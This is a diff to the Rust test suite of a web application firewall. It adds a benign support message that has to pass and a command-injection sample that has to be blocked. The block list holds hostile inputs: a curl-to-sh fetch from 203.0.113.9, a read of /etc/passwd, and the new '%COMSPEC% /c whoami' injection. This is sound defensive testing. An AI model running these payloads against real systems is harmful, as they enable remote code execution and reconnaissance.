@@ -754,6 +754,7 @@ fn holdout4_shapes_pass_and_their_attacks_still_score() {
         r##"{"html": "<div dir=\"ltr\">On Mon Tom &lt;tom@example.net&gt; wrote:<br></div>"}"##,
         r##"{"note": "Customer asked: \"can you ship to P.O. Box 1234?\" -> yes, via USPS only"}"##,
         r##"{"source": "The posterior is $p(\\theta \\mid x)$ for $n > 30$."}"##,
+        r##"{"body": "Hi, the installer stops with 'Access is denied'. I also checked %APPDATA%\\SoftCo\\logs\\install.log and it says it failed to create the cache folder."}"##,
         r##"{"content": "$src = 'C:\\Users\\jdoe'\n$dst = \"D:\\Backups\\$(Get-Date -Format yyyy-MM-dd)\"\nNew-Item -ItemType Directory -Path $dst -Force | Out-Null\n"}"##,
     ] {
         let o = json_post(&waf, body);
@@ -780,6 +781,7 @@ fn holdout4_shapes_pass_and_their_attacks_still_score() {
         r##"{"q": "$f('id')"}"##,
         r##"{"content": "$x = 1\n$y = $(curl http://203.0.113.9/a.sh | sh)\n"}"##,
         r##"{"content": "a=1\ncat /etc/passwd\n"}"##,
+        r##"{"q": "x & %COMSPEC% /c whoami"}"##,
     ] {
         let o = json_post(&waf, body);
         assert!(o.blocked, "{body}: {o:?}");
